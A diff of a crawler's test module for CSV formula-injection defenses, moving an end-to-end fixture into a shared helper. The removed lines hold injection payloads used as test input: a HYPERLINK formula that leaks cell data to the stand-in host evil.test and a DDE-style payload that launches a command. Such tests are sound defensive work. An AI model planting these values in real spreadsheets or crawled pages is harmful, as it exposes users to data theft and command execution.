@@ -20,9 +20,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from crawler.csvsafe import FORMULA_STARTS, neutralize_formula, spreadsheet_row
-from tests.support import fault_server as fs
-from tests.support.crawl import crawl
 from tests.support.databases import rows
+from tests.support.formulas import TITLE, crawl_formula_page
 from tests.support.paths import ROOT
 
 
@@ -65,23 +64,9 @@ def test_spreadsheet_row_scrubs_text_and_keeps_numbers() -> None:
 
 # --- end to end: a crawled page with formulas in every field -------------------------
 
-TITLE = '=HYPERLINK("http://evil.test/?"&A1,"خبر عاجل")'
-HEAD = (
-    '<meta name="author" content="@SUM(A+B)*cmd|\' /C calc\'!A">'
-    '<meta property="article:section" content="+محليات">'
-    '<meta name="keywords" content="-2+3, =1+1, وسم عادي">'
-)
-
-
 @pytest.fixture(scope="module")
 def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    db = tmp_path_factory.mktemp("formulas") / "news.db"
-    site = fs.Site()
-    html = fs.article_html("formula", title=TITLE).replace("<title>", HEAD + "<title>")
-    site.add("/a/formula.html", fs.page(html))
-    with fs.run(site.build()) as server:
-        crawl("-a", f"url={server.url}", db=db)
-    return db
+    return crawl_formula_page(tmp_path_factory.mktemp("formulas") / "news.db")
 
 
 def export(*args: str, **kwargs: object) -> subprocess.CompletedProcess:
